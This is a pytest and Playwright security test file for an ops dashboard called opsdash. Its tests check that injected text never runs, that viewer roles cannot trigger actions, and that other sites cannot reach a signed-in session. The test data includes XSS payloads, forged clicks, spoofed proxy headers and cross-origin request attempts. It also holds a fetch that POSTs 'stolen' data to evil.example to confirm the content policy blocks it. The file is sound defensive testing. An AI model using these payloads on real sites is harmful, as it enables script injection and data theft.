"""What other people write, claim or craft does not reach further than it should."""

from __future__ import annotations

import http.server
import json
import os
import re
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
from playwright.sync_api import Page, expect
from support import programs, services
from support.dialogs import PROCESSING, act, confirm_button, message
from support.reports import report
from support.workers import eventually

import opsdash
from opsdash.config.passwords import Users
from opsdash.keys import Keys
from opsdash.model import Status
from opsdash.services.database.tables import tenant_config

KEYS = Keys()
ROOT = Path(__file__).parents[2]
PAYLOAD = "<img src=x onerror='window.__opened=1'><script>window.__opened=1</script>"


@pytest.fixture(scope="module")
def by_proxy(serve_page: Callable[..., Any]) -> Any:
    """The page behind a proxy that names the user."""
    return serve_page(auth="header", operators=("maria",), viewers=("group:support",))


@pytest.fixture
def store(broker: services.Valkey) -> Iterator[redis.Redis]:
    with redis.Redis.from_url(broker.url, decode_responses=True) as client:
        yield client


def test_text_that_other_people_wrote_is_shown_and_never_run(
    serve_page: Callable[..., Any], store: redis.Redis, visit: Callable[..., Page]
) -> None:
    queue = f"q{PAYLOAD}"
    served = serve_page(queues=("celery", queue), admins=("*",))
    headers = {"task": PAYLOAD, "id": PAYLOAD, "argsrepr": PAYLOAD, "kwargsrepr": PAYLOAD}
    store.rpush(queue, json.dumps({"headers": headers, "properties": {}, "body": ""}))
    ran = json.dumps([[f"id {PAYLOAD}", f"task {PAYLOAD}", f"at {PAYLOAD}", 65]])
    report(store, f"celery@{PAYLOAD}", queues=json.dumps([queue]), pool=PAYLOAD, pausing=PAYLOAD, running=ran)
    served.console.run(opsdash.PauseProcessing(reason=PAYLOAD), actor=PAYLOAD, confirm="YES")
    try:
        page = visit(served.url)
        expect(page.get_by_text("Processing Status: PAUSED")).to_be_visible()
        expect(page.get_by_text(f"“{PAYLOAD}”")).to_be_visible()
        expect(page.get_by_text(f"Paused by {PAYLOAD} since")).to_be_visible()
        expect(page.get_by_role("cell", name=f"celery@{PAYLOAD}", exact=True)).to_be_visible()
        page.get_by_role("tab", name="Queues").click()
        page.get_by_role("button", name=f"Peek {queue}").click()
        expect(page.get_by_role("dialog").get_by_text(PAYLOAD, exact=True).first).to_be_visible()
        page.keyboard.press("Escape")
        page.get_by_role("tab", name="Overview").click()
        page.get_by_role("button", name="Show details").first.click()
        for column in ("task", "at"):
            expect(page.get_by_role("cell", name=f"{column} {PAYLOAD}", exact=True)).to_be_visible()
        act(page, queue, "Clear")
        expect(page.get_by_role("heading", name=f"Clear queue {queue}", exact=True)).to_be_visible()
        expect(page.get_by_role("dialog").get_by_text(PAYLOAD, exact=True).first).to_be_visible()
        page.get_by_label("Type YES to confirm").fill("YES")
        confirm_button(page).click()
        expect(message(page)).to_contain_text(PAYLOAD)
        page.wait_for_timeout(300)
        assert page.evaluate("window.__opened") is None
    finally:
        served.console.run(opsdash.ResumeProcessing(), actor="test", confirm="YES")


@pytest.mark.long
def test_a_viewer_sees_everything_and_is_told_why_the_buttons_are_off(
    by_proxy: Any, visit: Callable[..., Page], shoot: Callable[..., None]
) -> None:
    page = visit(
        by_proxy.url, extra_http_headers={"X-Auth-Request-User": "paul", "X-Auth-Request-Groups": "dev,support"}
    )
    expect(page.get_by_text(PROCESSING)).to_be_visible()
    expect(page.get_by_text("paul · viewer")).to_be_visible()
    expect(page.get_by_text("Your role is viewer")).to_be_visible()
    for name in ("Pause Processing", "Resume Processing", "Sync Tenant Configs"):
        expect(page.get_by_role("button", name=name, exact=True)).to_be_disabled()
    shoot(page, "viewer")


@pytest.mark.long
def test_a_viewer_who_crafts_the_messages_of_a_click_is_refused_and_the_attempt_is_in_the_log(
    by_proxy: Any, visit: Callable[..., Page], store: redis.Redis
) -> None:
    eve = {"X-Auth-Request-User": "eve", "X-Auth-Request-Groups": "support", "X-Forwarded-For": "8.8.8.8, 203.0.113.9"}
    page = visit(by_proxy.url, extra_http_headers=eve)
    expect(page.get_by_text(PROCESSING)).to_be_visible()
    pause = page.get_by_role("button", name="Pause Processing", exact=True)
    pause.evaluate("button => { button.disabled = false; button.click() }")
    page.get_by_label("Type YES to confirm").fill("YES")
    confirm_button(page).click()
    expect(message(page)).to_contain_text("eve has the role viewer; Pause Processing needs operator.")
    assert not store.exists(KEYS.pause())
    newest = by_proxy.console.get_recent_operations(limit=1)[0]
    assert (newest.user, newest.operation, newest.status) == ("eve", "pause_processing", Status.REFUSED)
    assert newest.details["client"] == "203.0.113.9"  # as the proxy saw it, not as she says


@pytest.mark.long
@pytest.mark.parametrize(
    ("headers", "said"),
    [
        ({}, "You are not signed in"),
        ({"X-Auth-Request-User": "stranger"}, "You have no role here"),
    ],
)
def test_whoever_has_no_role_sees_nothing_but_the_reason(
    by_proxy: Any, visit: Callable[..., Page], headers: dict[str, str], said: str
) -> None:
    page = visit(by_proxy.url, ready=said, extra_http_headers=headers)
    expect(page.get_by_role("heading", name=said)).to_be_visible()
    for secret in ("Processing Status", "Worker Health", "redis://"):
        assert secret not in page.content()
        expect(page.get_by_text(secret)).to_have_count(0)


@pytest.mark.long
def test_without_a_configured_identity_the_page_explains_how_and_shows_nothing(
    serve_page: Callable[..., Any], visit: Callable[..., Page], shoot: Callable[..., None]
) -> None:
    page = visit(serve_page(auth=None).url, ready="opsdash is closed")
    commands = page.get_by_text("OPSDASH_AUTH=dev opsdash serve")
    lines = ["OPSDASH_AUTH=dev opsdash serve", "", "# for a small team, with a file of names and passwords:"]
    assert services.until(lambda: commands.inner_text().splitlines()[:3] == lines), "a line each, to be copied"
    expect(page.get_by_text("Processing Status")).to_have_count(0)
    shoot(page, "closed")


@pytest.mark.long
def test_a_tenants_name_and_the_users_own_are_shown_and_never_run(
    serve_page: Callable[..., Any], visit: Callable[..., Page]
) -> None:
    served = serve_page(auth="header", operators=("*",), environment="staging")
    row = {"tenant_id": PAYLOAD, "name": PAYLOAD, "enabled": True, "settings": {PAYLOAD: PAYLOAD}, "api_key": "k" * 20}
    with served.console.engine.begin() as database:
        database.execute(tenant_config.insert().values(row))
    try:
        page = visit(served.url, extra_http_headers={"X-Auth-Request-User": PAYLOAD})
        expect(page.get_by_text(f"{PAYLOAD} · operator")).to_be_visible()
        page.get_by_role("button", name="Sync Tenant Configs", exact=True).click()
        page.get_by_label("Type YES to confirm").fill("YES")
        confirm_button(page).click()
        expect(message(page).first).to_be_visible()
        newest = page.get_by_role("region", name="Recent Operations").locator("tbody tr").first
        expect(newest).to_contain_text("Sync Tenant Configs")
        expect(newest).to_contain_text(PAYLOAD)
        page.get_by_role("button", name="Show details").first.click()
        page.wait_for_timeout(300)  # an image that a text had made would be asked for, and `visit` would see it
        assert page.evaluate("window.__opened") is None
    finally:
        with served.console.engine.begin() as database:
            database.execute(tenant_config.delete())


def test_a_script_that_got_into_the_page_all_the_same_would_not_run(
    served: Any, visit: Callable[..., Page], watch: Any
) -> None:
    watch.tolerate = ("Content Security Policy", "404 (Not Found)", "evil.example")  # asked for, and blocked
    page = visit(served.url)
    page.evaluate(
        """() => {
            window.refused = []
            const note = (event) => window.refused.push(event.effectiveDirective)
            document.addEventListener('securitypolicyviolation', note)
            const box = document.body.appendChild(document.createElement('div'))
            box.innerHTML = `<img src=x onerror="window.__opened=1"><a href="javascript:window.__opened=1">x</a>
                <iframe src="http://evil.example/"></iframe><img src="http://evil.example/x.png">`
            const script = document.createElement('script')
            script.textContent = 'window.__opened=1'
            box.append(script)
            box.querySelector('a').click()
            fetch('http://evil.example/', {method: 'POST', body: 'stolen'}).catch(() => {})
            setTimeout('window.__opened=1', 0)
        }"""
    )
    expected = {"script-src-elem", "script-src-attr", "frame-src", "img-src", "connect-src", "script-src"}
    eventually(lambda: expected <= set(page.evaluate("window.refused")), what="each attempt's refusal")
    assert page.evaluate("window.__opened") is None


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """Another site, on another port of this machine."""

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><link rel=icon href=data:,><title>evil</title>nice kittens")

        def log_message(self, *_args: object) -> None:
            """Says nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@pytest.mark.long
def test_another_sites_page_reaches_nothing_in_a_browser_that_is_signed_in(
    by_proxy: Any, visit: Callable[..., Page], watch: Any, elsewhere: str
) -> None:
    signed_in = {"X-Auth-Request-User": "maria"}  # the proxy adds it to whatever the browser sends
    token = re.findall(r'"token":"([^"]+)"', visit_text(by_proxy, signed_in))[0]
    watch.tolerate = ("403", "404", "WebSocket", "CORS", "ERR_", "X-Frame", "frame", "blocked")
    page = visit(elsewhere, ready="nice kittens", extra_http_headers=signed_in)
    before = len(by_proxy.console.get_recent_operations(limit=20))
    reached = page.evaluate(
        """async ([root, token]) => {
            const outcome = {}
            outcome.socket = await new Promise((done) => {
                const socket = new WebSocket(root.replace('http', 'ws') + '/operations/ws', ['bokeh', token])
                socket.onopen = () => done('open')
                socket.onerror = () => done('refused')
            })
            outcome.script = await new Promise((done) => {
                const script = document.createElement('script')
                script.src = root + '/operations/autoload.js?bokeh-autoload-element=x'
                script.onload = () => done('loaded')
                script.onerror = () => done('refused')
                document.head.append(script)
            })
            for (const method of ['GET', 'POST'])
                outcome[method] = await fetch(root + '/operations', {method, credentials: 'include'})
                    .then((answer) => answer.text(), () => 'refused')
            outcome.blind = await fetch(root + '/operations', {method: 'POST', mode: 'no-cors', body: 'x'})
                .then((answer) => answer.type, () => 'refused')
            return outcome
        }""",
        [by_proxy.root, token],
    )
    assert reached == {
        "socket": "refused",
        "script": "refused",
        "GET": "refused",
        "POST": "refused",
        "blind": "refused",
    }
    assert len(by_proxy.console.get_recent_operations(limit=20)) == before


def visit_text(served: Any, headers: dict[str, str]) -> str:
    """The page as a program fetches it."""
    with urllib.request.urlopen(urllib.request.Request(served.url, headers=headers)) as answer:
        text: str = answer.read().decode()
    return text


@pytest.mark.long
def test_a_small_team_signs_in_with_names_and_passwords(
    serve_page: Callable[..., Any], visit: Callable[..., Page], tmp_path: Path, shoot: Callable[..., None]
) -> None:
    users = Users(tmp_path / "users")
    users.put("maria", "correct horse battery")
    served = serve_page(auth="basic", users_file=str(users.path), operators=("maria",))
    page = visit(served.url, ready="Sign in to opsdash", apart=True)
    shoot(page, "sign_in")
    page.get_by_label("User name").fill("maria")
    page.get_by_label("Password").fill("correct horse battery")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_text("maria · operator")).to_be_visible()
    expect(page.get_by_text(PROCESSING)).to_be_visible()
    page.goto(f"{served.root}/logout")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in to opsdash")).to_be_visible()


@pytest.mark.long
def test_the_page_lives_under_a_prefix_and_answers_a_health_check_without_a_session(
    serve_page: Callable[..., Any], visit: Callable[..., Page]
) -> None:
    served = serve_page(options={"prefix": "/ops"})
    page = visit(f"{served.root}/")
    assert page.url.partition("?")[0] == served.url
    answer = page.request.get(f"{served.root}/healthz")
    assert (answer.status, answer.text()) == (200, "ok")


@pytest.mark.long
def test_panel_serve_alone_serves_the_page(
    broker: services.Valkey, database_file: Path, visit: Callable[..., Page]
) -> None:
    port = services.free_port()
    environment = {
        **os.environ,
        "OPSDASH_AUTH": "dev",
        "OPSDASH_REDIS_URL": broker.url,
        "OPSDASH_DATABASE_URL": f"sqlite:///{database_file}",
        "PYTHONPATH": str(ROOT),
    }
    command = [sys.executable, "-m", "panel", "serve", str(ROOT / "apps" / "operations.py"), "--port", str(port)]
    command += ["--address", "127.0.0.1", "--allow-websocket-origin", f"127.0.0.1:{port}"]
    url = f"http://127.0.0.1:{port}/operations"
    with programs.Popen(command, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        try:
            assert services.until(lambda: answers(port) or process.poll() is not None, timeout_s=30)
            page = visit(url)
            expect(page.get_by_text(PROCESSING)).to_be_visible()
            expect(page.get_by_text("development mode")).to_be_visible()
            page.close()  # before its server goes: what it would ask for then is no fault of the page
        finally:
            process.terminate()


def answers(port: int) -> bool:
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0
